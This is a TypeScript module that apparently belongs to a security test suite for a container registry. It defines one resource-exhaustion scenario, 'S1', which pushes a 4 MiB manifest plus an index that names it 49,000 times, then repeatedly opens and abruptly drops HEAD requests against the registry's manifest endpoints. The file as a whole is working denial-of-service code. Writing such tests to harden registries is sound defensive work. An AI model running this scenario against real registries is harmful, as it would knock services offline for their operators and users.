import { setTimeout as sleep } from 'node:timers/promises'
import type { Attack } from '../attack.js'
import { indexNaming, LARGEST, paddedImage } from '../manifests.js'
import { pushBoth } from '../push-both.js'

/** An index as large as may be, all of it the name of one child as large as may be; who asks for it leaves. */
export const repeatedChild: Attack = {
  name: 'S1',
  title: 'a child of 4 MiB that an index names 49,000 times',
  seconds: 12,
  prepare: async stage => {
    await stage.farSide.tell('repository', { name: 'attacker/app' })
    const child = paddedImage(stage.sized({ full: LARGEST, quick: 1000 }))
    const index = indexNaming(child, stage.sized({ full: 49_000, quick: 10 }))
    await pushBoth(stage, 'attacker/app', 'child', child)
    await stage.ask('GET', '/v2/attacker/app/manifests/child', { as: 'attacker' })
    await pushBoth(stage, 'attacker/app', 'index', index)
    return async signal => {
      const headers = { 'cache-control': 'no-cache', accept: '*/*' }
      while (!signal.aborted) {
        for (const reference of ['index', index.digest]) {
          const path = `/v2/attacker/app/manifests/${reference}`
          const socket = stage.open('HEAD', path, { as: 'attacker', headers })
          await sleep(300, undefined, { signal }).catch(() => undefined)
          socket.destroy()
          await stage.ask('HEAD', path, { as: 'attacker', headers: { accept: '*/*' } }, signal)
        }
        await sleep(500, undefined, { signal }).catch(() => undefined)
      }
      return []
    }
  },
}
